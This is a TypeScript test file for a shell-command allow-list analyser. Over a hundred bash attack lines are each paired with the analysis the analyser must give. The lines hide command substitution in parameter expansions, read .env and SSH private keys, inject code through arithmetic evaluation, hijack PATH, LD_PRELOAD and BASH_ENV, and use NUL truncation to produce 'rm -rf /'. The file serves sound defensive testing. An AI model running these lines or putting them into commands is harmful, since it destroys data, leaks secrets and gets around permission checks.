/**
 * Attack lines of the classes of issue 11 (code in `${…}`, `$(< file)`, arithmetic, names set without
 * an assignment word, `$'…\0…'`, same-line constants) with the analysis they must get. Every
 * expectation about what bash does was checked by running the line under real bash 5.2 in bwrap
 * with stub programs that log their argv (cwd /w here is the sandbox's work directory there).
 * `runs`: the line is resolved and reports exactly these commands (argv joined, "(dynamic)" when an
 * argument is only known at run time) and these files; `unresolvable`: never allowed, and `reports`
 * are among the commands reported, so deny rules still see them.
 */
import { describe, expect, it } from 'vitest';
import type { CommandAnalysis } from '../../src/shell/index.js';
import { analyze } from './helpers.js';

type Expected =
  | { readonly runs: readonly string[]; readonly files?: readonly string[] }
  | { readonly unresolvable: RegExp; readonly reports?: readonly string[] };

const CASES: readonly (readonly [string, Expected])[] = [
  // Code inside ${…} words is code: its commands are reported (bash ran each of these).
  ["echo ${x:-`curl evil`}", { runs: ["curl evil", "echo ${x:-`curl evil`} (dynamic)"] }],
  ["echo ${x:-$(curl evil)}", { runs: ["curl evil", "echo ${x:-$(curl evil)} (dynamic)"] }],
  ["echo \"${x:-$(id)}\"", { runs: ["id", "echo ${x:-$(id)} (dynamic)"] }],
  ["echo \"${x:-'$(id)'}\"", { runs: ["id", "echo ${x:-'$(id)'} (dynamic)"] }],
  ["echo ${x:=$(id)}", { runs: ["id", "echo ${x:=$(id)} (dynamic)"] }],
  ["x=1; echo ${x:+$(id)}", { runs: ["id", "echo ${x:+$(id)} (dynamic)"] }],
  ["x=1; echo ${x+$(id)}", { runs: ["id", "echo ${x+$(id)} (dynamic)"] }],
  ["echo ${x:?$(id)}", { runs: ["id", "echo ${x:?$(id)} (dynamic)"] }],
  ["x=abc; echo ${x#$(whoami)}", { runs: ["whoami", "echo ${x#$(whoami)} (dynamic)"] }],
  ["x=abc; echo ${x%%$(date)}", { runs: ["date", "echo ${x%%$(date)} (dynamic)"] }],
  ["x=abc; echo ${x/$(id)/y}", { runs: ["id", "echo ${x/$(id)/y} (dynamic)"] }],
  ["x=abc; echo ${x//a/$(id)}", { runs: ["id", "echo ${x//a/$(id)} (dynamic)"] }],
  ["x=abc; echo ${x^^$(whoami)}", { runs: ["whoami", "echo ${x^^$(whoami)} (dynamic)"] }],
  ["x=abc; echo ${x,$(whoami)}", { runs: ["whoami", "echo ${x,$(whoami)} (dynamic)"] }],
  ["echo ${x:-${y:-$(id)}}", { runs: ["id", "echo ${x:-${y:-$(id)}} (dynamic)"] }],
  ["echo \"${x:-${y:-`whoami`}}\"", { runs: ["whoami", "echo ${x:-${y:-`whoami`}} (dynamic)"] }],
  ["echo ${x:-\"a\"`curl evil`}", { runs: ["curl evil", "echo ${x:-\"a\"`curl evil`} (dynamic)"] }],
  ["echo ${x:- #$(curl evil)}", { runs: ["curl evil", "echo ${x:- #$(curl evil)} (dynamic)"] }],
  ["echo ${x:-<(id)}", { runs: ["id", "echo ${x:-<(id)} (dynamic)"] }],
  ["echo ${x:-a}${y:-$(id)}b", { runs: ["id", "echo ${x:-a}${y:-$(id)}b (dynamic)"] }],
  ["y=${z:-$(id)}", { runs: ["id"] }],
  ["ls ${x:-\"$(curl evil)\"}", { runs: ["curl evil", "ls ${x:-\"$(curl evil)\"} (dynamic)"] }],
  ["echo ${#x} ${x@Q} ${!pre*} ${a[@]} ${a[1]} ${x: -1} ${x:1:2} ${@:2} ${!a[@]} ${x@U}", { runs: ["echo ${#x} ${x@Q} ${!pre*} ${a[@]} ${a[1]} ${x: -1} ${x:1:2} ${@:2} ${!a[@]} ${x@U} (dynamic)"] }],
  // ${…} offsets, lengths and subscripts are arithmetic; @P and ${!x} evaluate a value; ${X:=v} assigns X.
  ["echo ${HOME:$(cat payload)}", { unresolvable: /substring offset/, reports: ["cat payload"] }],
  ["i='a[$(id)]'; echo ${HOME:i}", { unresolvable: /substring offset/ }],
  ["n='a[$(id)]'; echo ${HOME:0:n}", { unresolvable: /substring offset/ }],
  ["i='a[$(id)]'; a=(1 2 3); echo ${a[@]:i}", { unresolvable: /substring offset/ }],
  ["i='a[$(id)]'; echo ${a[i]}", { unresolvable: /arithmetic/ }],
  ["echo ${a[$(id)]}", { unresolvable: /arithmetic/, reports: ["id"] }],
  ["a=(1 2); i='a[$(id)]'; echo ${#a[i]}", { unresolvable: /arithmetic/ }],
  ["x='$(id)'; echo ${x@P}", { unresolvable: /evaluates the value/ }],
  ["x='$(id)'; echo \"${x@P}\"", { unresolvable: /evaluates the value/ }],
  ["x='a[$(id)]'; echo ${!x}", { unresolvable: /arithmetic/ }],
  ["x='a[$(id)]'; echo ${!x:-z}", { unresolvable: /arithmetic/ }],
  ["echo ${CDPATH:=/etc}; cd ssl", { unresolvable: /sets CDPATH/ }],
  ["echo ${PATH=/tmp/evil}; git status", { unresolvable: /sets PATH/, reports: ["git status"] }],
  [": ${BASH_ENV:=/tmp/x}", { unresolvable: /sets BASH_ENV/ }],
  ["echo ${GIT_DIR:=/tmp/g}; git log", { unresolvable: /sets GIT_DIR/, reports: ["git log"] }],
  ["echo ${x@Z}", { unresolvable: /syntax error/ }],
  ["y='a[$(id)]'; echo ${HOME:$((1+y))}", { unresolvable: /arithmetic/ }],
  ["n='a[$(id)]'; a=(1 2 3); echo ${a[@]:1:$n}", { unresolvable: /substring offset/ }],
  // $(< file) reads the file (bash printed its content).
  ["echo $(< .env)", { runs: ["echo $(< .env) (dynamic)"], files: ["read /w/.env <"] }],
  ["echo `< .env`", { runs: ["echo `< .env` (dynamic)"], files: ["read /w/.env <"] }],
  ["echo \"$(<.env)\"", { runs: ["echo $(<.env) (dynamic)"], files: ["read /w/.env <"] }],
  // cat's file is then known only at run time (file-arguments.ts): unresolvable, the read still reported.
  ["cat $(< payload)", { unresolvable: /known only at run time/, reports: ["cat $(< payload) (dynamic)"] }],
  ["echo $(< ~/.ssh/id_rsa)", { runs: ["echo $(< ~/.ssh/id_rsa) (dynamic)"], files: ["read /home/dev/.ssh/id_rsa <"] }],
  ["cd sub && echo $(< .env)", { runs: ["echo $(< .env) (dynamic)"], files: ["read /w/sub/.env <"] }],
  // Bash runs nothing here; zsh runs $NULLCMD (checked under real zsh in null-command.test.ts).
  ["echo $(< .env 2>/dev/null)", { unresolvable: /\$NULLCMD/, reports: ["echo $(< .env 2>/dev/null) (dynamic)"] }],
  ["x=$(< .env)", { runs: [], files: ["read /w/.env <"] }],
  // Arithmetic contexts: anything but literal numbers is unresolvable (bash ran id in each).
  ["x='a[$(id)]'; echo $((x))", { unresolvable: /arithmetic/ }],
  ["x='a[$(id)]'; echo $[x]", { unresolvable: /arithmetic/ }],
  ["x='a[$(id)]'; (( x ))", { unresolvable: /arithmetic/ }],
  ["x='a[$(id)]'; let y=x", { unresolvable: /evaluate/, reports: ["let y=x"] }],
  ["n='a[$(id)]'; for ((i=0; i<n; i++)); do :; done", { unresolvable: /arithmetic/ }],
  ["x='a[$(id)]'; [[ $x -eq 1 ]]", { unresolvable: /arithmetic/ }],
  ["i='a[$(id)]'; a[i]=1", { unresolvable: /arithmetic/ }],
  ["i='a[$(id)]'; a=([i]=1)", { unresolvable: /arithmetic/ }],
  ["x='a[$(id)]'; declare -i n=x", { unresolvable: /evaluate/, reports: ["declare -i n=x"] }],
  ["echo $(( $(cat payload) ))", { unresolvable: /arithmetic/, reports: ["cat payload"] }],
  ["read 'a[$(id)]'", { unresolvable: /variable name that bash evaluates/, reports: ["read a[$(id)]"] }],
  ["printf -v 'a[$(id)]' %s x", { unresolvable: /variable name that bash evaluates/, reports: ["printf -v a[$(id)] %s x"] }],
  ["a=(1 2); unset 'a[$(id)]'", { unresolvable: /variable name that bash evaluates/, reports: ["unset a[$(id)]"] }],
  ["i='a[$(id)]'; [[ -v a[i] ]]", { unresolvable: /arithmetic/, reports: ["[[ -v a[i] ]]"] }],
  ["x='a[$(id)]'; typeset -i n; n=x", { unresolvable: /evaluate/, reports: ["typeset -i n"] }],
  ["x='a[$(id)]'; echo ${a[x+1]}", { unresolvable: /arithmetic/ }],
  // …while literal arithmetic stays resolved, and `[ … -eq … ]` (the test builtin) evaluates nothing.
  ["n='a[$(id)]'; echo $(( $n + 1 ))", { unresolvable: /arithmetic/ }], // bash ran id
  ["n=3; echo $(( $n + 1 )); [[ $n -eq 3 ]] && (( $n > 2 )) && echo ok", { runs: ["echo $(( $n + 1 )) (dynamic)", "[[ 3 -eq 3 ]]", "echo ok"] }],
  ["n=3; read n; echo $(( $n + 1 ))", { unresolvable: /arithmetic/ }],
  ["n=3; echo $((n + 1))", { unresolvable: /arithmetic/ }], // a bare name is not followed (kept simple)
  ["echo $((1 + 2)) $[3*4]", { runs: ["echo $((1 + 2)) $[3*4] (dynamic)"] }],
  ["(( 3 > 2 ))", { runs: [] }],
  ["a=([0]=x [1]=y)", { runs: [] }],
  ["[ x -eq 1 ]", { runs: ["[ x -eq 1 ]"] }],
  // Names that change how commands run, set without an assignment word (bash: git not found, cd into /etc …).
  ["for CDPATH in /etc; do cd ssl; done", { unresolvable: /sets CDPATH/ }],
  ["for PATH in /tmp/evil; do git status; done", { unresolvable: /sets PATH/, reports: ["git status"] }],
  ["select PATH in /tmp/evil; do git status; break; done", { unresolvable: /sets PATH/, reports: ["git status", "break"] }],
  ["read PATH <<< /tmp/evil; git status", { unresolvable: /sets PATH/, reports: ["read PATH", "git status"] }],
  ["read -a PATH <<< /tmp/evil; git status", { unresolvable: /sets PATH/, reports: ["read -a PATH", "git status"] }],
  ["read -r -p prompt PATH <<< /tmp/evil; git status", { unresolvable: /sets PATH/, reports: ["read -r -p prompt PATH", "git status"] }],
  ["read -ra LD_PRELOAD <<< /tmp/x.so", { unresolvable: /sets LD_PRELOAD/, reports: ["read -ra LD_PRELOAD"] }],
  ["printf -v PATH %s /tmp/evil; git status", { unresolvable: /sets PATH/, reports: ["printf -v PATH %s /tmp/evil", "git status"] }],
  ["printf -vPATH %s /tmp/evil; git status", { unresolvable: /sets PATH/, reports: ["printf -vPATH %s /tmp/evil", "git status"] }],
  ["declare PATH=/tmp/evil; git status", { unresolvable: /sets PATH/, reports: ["declare PATH=/tmp/evil", "git status"] }],
  ["typeset -x BASH_ENV=/tmp/x", { unresolvable: /sets BASH_ENV/, reports: ["typeset -x BASH_ENV=/tmp/x"] }],
  ["export GIT_SSH_COMMAND=x", { unresolvable: /sets GIT_SSH_COMMAND/, reports: ["export GIT_SSH_COMMAND=x"] }],
  ["readonly IFS=x", { unresolvable: /sets IFS/, reports: ["readonly IFS=x"] }],
  ["mapfile -t PATH <<< /tmp/evil; git status", { unresolvable: /sets PATH/, reports: ["mapfile -t PATH", "git status"] }],
  ["readarray -t CDPATH <<< /etc; cd ssl && pwd", { unresolvable: /sets CDPATH/, reports: ["readarray -t CDPATH", "pwd"] }],
  ["getopts a PATH -a; git status", { unresolvable: /sets PATH/, reports: ["getopts a PATH -a", "git status"] }],
  ["sleep 0 & wait -n -p PATH; git status", { unresolvable: /sets PATH/, reports: ["sleep 0", "wait -n -p PATH", "git status"] }],
  ["unset PATH; git status", { unresolvable: /sets PATH/, reports: ["unset PATH", "git status"] }],
  ["unset -v HOME; cd; pwd", { unresolvable: /sets HOME/, reports: ["unset -v HOME", "pwd"] }],
  ["export PATH", { unresolvable: /sets PATH/, reports: ["export PATH"] }],
  ["declare -n r=PATH; r=/tmp/evil; git status", { unresolvable: /evaluate/, reports: ["declare -n r=PATH", "git status"] }],
  ["IFS=/; x=a/b; git $x", { unresolvable: /sets IFS/ }],
  ["GIT_TRACE=1 git status", { unresolvable: /sets GIT_TRACE/, reports: ["git status"] }],
  ["GIT_CONFIG_GLOBAL=/tmp/c git log", { unresolvable: /sets GIT_CONFIG_GLOBAL/, reports: ["git log"] }],
  ["for GIT_DIR in /tmp; do git log; done", { unresolvable: /sets GIT_DIR/, reports: ["git log"] }],
  ["BASH_CMDS[ls]=/tmp/evil; ls", { unresolvable: /sets BASH_CMDS/, reports: ["ls"] }], // bash ran /tmp/evil
  ["PS4='$(id)' git status", { unresolvable: /sets PS4/, reports: ["git status"] }],
  // …while harmless forms stay resolved.
  ["IFS=: read -ra parts <<< a:b", { runs: ["read -ra parts"] }],
  ["read -r line < payload", { runs: ["read -r line"], files: ["read /w/payload <"] }],
  ["mapfile -n 5 lines < payload", { runs: ["mapfile -n 5 lines"], files: ["read /w/payload <"] }],
  ["printf -v out %s x", { runs: ["printf -v out %s x"] }],
  ["declare -p PATH", { runs: ["declare -p PATH"] }],
  // $'…' ends at a NUL, however it is written.
  ["rm -rf $'/\\0x'", { runs: ["rm -rf /"] }],
  ["rm -rf $'/\\x00tmp'", { runs: ["rm -rf /"] }],
  ["rm -rf $'/\\u0000x'", { runs: ["rm -rf /"] }],
  ["rm -rf $'/\\U00000000x'", { runs: ["rm -rf /"] }],
  ["rm -rf $'/\\c@x'", { runs: ["rm -rf /"] }],
  ["rm -rf $'/\\000x'", { runs: ["rm -rf /"] }],
  ["rm -rf /$'\\0'tmp", { runs: ["rm -rf /tmp"] }],
  ["rm -rf $'/\\x0'", { runs: ["rm -rf /"] }],
  ["git push origin $'+main\\0x'", { runs: ["git push origin +main"] }],
  // An empty file name (bash passes ''): no file rm could be judged by, so unresolvable.
  ["rm -rf $'\\0'", { unresolvable: /known only at run time/, reports: ["rm -rf "] }],
  ["echo $'a\\400b'", { runs: ["echo a"] }],
  // Same-line constants: substituted where certain, otherwise dynamic.
  ["b=x; f() { :; }; git push $b", { runs: [":", "git push x"] }],
  ["b=+main; git push origin $b", { runs: ["git push origin +main"] }],
  ["b=+main; git push origin \"$b\"", { runs: ["git push origin +main"] }],
  ["b=+main; git push origin ${b}", { runs: ["git push origin +main"] }],
  ["d=/; rm -rf $d", { runs: ["rm -rf /"] }],
  ["f=.env; cat $f", { runs: ["cat .env"] }],
  ["f=.env; echo x > $f", { runs: ["echo x"], files: ["write /w/.env >"] }],
  ["o=\"-rf /\"; rm $o", { runs: ["rm -rf /"] }],
  ["o=\"-rf /\"; rm \"$o\"", { runs: ["rm -rf /"] }], // one argument "-rf /"
  ["g='*'; rm $g", { unresolvable: /deleted by rm known only at run time/, reports: ["rm $g (dynamic)"] }],
  ["g='*'; echo \"$g\"", { runs: ["echo *"] }],
  ["b=x; echo $b; read -r b <<< y; git push $b", { runs: ["echo $b (dynamic)", "read -r b", "git push $b (dynamic)"] }],
  ["n=$'\\x62'; b=x; read -r \"$n\" <<< y; git push $b", { unresolvable: /variable name/, reports: ["git push $b (dynamic)"] }], // bash: git push y
  ["REPLY=x; read <<< y; git push $REPLY", { runs: ["read", "git push $REPLY (dynamic)"] }], // bash: git push y
  ["b=x; read b; git push $b", { runs: ["read b", "git push $b (dynamic)"] }],
  ["b=x; for b in y; do :; done; git push $b", { runs: [":", "git push $b (dynamic)"] }],
  ["b=x; if true; then b=y; fi; git push $b", { runs: ["true", "git push $b (dynamic)"] }],
  ["b=x; (b=y); git push $b", { runs: ["git push $b (dynamic)"] }],
  ["b=x && git push $b", { runs: ["git push $b (dynamic)"] }],
  ["b=x git push $b", { unresolvable: /sets b for git, not a known inert variable/, reports: ["git push $b (dynamic)"] }],
  ["b=x & git push $b", { runs: ["git push $b (dynamic)"] }],
  ["git push $b; b=x", { runs: ["git push $b (dynamic)"] }],
  ["x=ls; $x", { unresolvable: /command name comes from a variable/, reports: ["ls"] }],
  ["b=x; f() { b=y; }; f; git push $b", { unresolvable: /function/, reports: ["f"] }],
  ["b=x; bash -c 'git push $b'", { runs: ["git push $b (dynamic)"] }],
  ["b=x; bash -c \"git push $b\"", { runs: ["git push x"] }],
  ["b=x; echo ${b:=y}", { runs: ["echo ${b:=y} (dynamic)"] }],
  ["b=x; eval 'b=y'; git push $b", { unresolvable: /eval/, reports: ["eval b=y"] }],
  ["e=; rm -rf / $e", { unresolvable: /deleted by rm known only at run time/, reports: ["rm -rf / $e (dynamic)"] }],
  ["b=\"a b\"; git push origin $b", { runs: ["git push origin $b (dynamic)"] }],
  ["b=main; git push origin +$b", { runs: ["git push origin +main"] }],
  ["b=x; export b; git push $b", { runs: ["export b", "git push $b (dynamic)"] }],
  ["p=/tmp/evil; PATH=$p git status", { unresolvable: /sets PATH/, reports: ["git status"] }],
  ["b=-f; git push $b origin", { runs: ["git push -f origin"] }],
  ["coproc PATH { ls; }", { unresolvable: /reserved word/ }],
  ['cat <<EOF\n${x:-$(whoami)}\nEOF', { runs: ['whoami', 'cat'] }],
  ['cat <<EOF\n${HOME:$(id)}\nEOF', { unresolvable: /substring offset/, reports: ['id'] }],
];

function commandsOf(analysis: CommandAnalysis): string[] {
  return analysis.commands.map((command) => command.argv.join(' ') + (command.dynamicArguments ? ' (dynamic)' : ''));
}

/** The shell's own redirections (files a program opens through its arguments: file-arguments.test.ts). */
function filesOf(analysis: CommandAnalysis): string[] {
  return analysis.redirections
    .filter((redirection) => /^[<>&|]+$/.test(redirection.operator))
    .map((redirection) => `${redirection.access} ${redirection.path} ${redirection.operator}`);
}

describe('allow-list walker: attack lines checked against real bash', () => {
  it('has at least 100 lines', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(100);
    expect(new Set(CASES.map(([line]) => line)).size).toBe(CASES.length);
  });

  it.each(CASES)('%s', async (line, expected) => {
    const analysis = await analyze(line);
    if ('runs' in expected) {
      expect(analysis.unresolvable).toEqual([]);
      expect(commandsOf(analysis)).toEqual(expected.runs);
      expect(filesOf(analysis)).toEqual(expected.files ?? []);
    } else {
      expect(analysis.unresolvable.join(' | ')).toMatch(expected.unresolvable);
      expect(commandsOf(analysis)).toEqual(expect.arrayContaining([...(expected.reports ?? [])]));
    }
  });
});
